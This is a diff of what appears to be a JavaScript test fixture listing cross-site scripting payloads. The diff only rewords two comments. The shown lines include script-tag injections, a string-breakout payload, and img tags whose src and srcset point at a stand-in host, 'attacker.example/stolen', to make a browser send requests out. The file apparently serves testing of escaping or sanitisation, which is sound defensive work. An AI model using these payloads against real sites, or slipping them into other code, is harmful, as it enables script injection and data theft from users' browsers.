@@ -1,7 +1,7 @@
 const run = "window.attacked=1";
 const away = "//attacker.example/stolen";
 
-/** What runs a script where it is read as HTML, an address, a style, or JSON. */
+/** Payloads that run a script where they are read as HTML, an address, a style, or JSON. */
 const scripts = [
   `<script>${run}</script>`,
   `<script src=${away}></script>`,
@@ -54,7 +54,7 @@ const scripts = [
   `');${run};('`,
 ];
 
-/** What makes a browser ask another server where it is read as HTML, an address, or a style. */
+/** Payloads that make a browser ask another server where they are read as HTML, an address, or a style. */
 const requests = [
   `<img src="${away}">`,
   `<img srcset="${away} 1x">`,
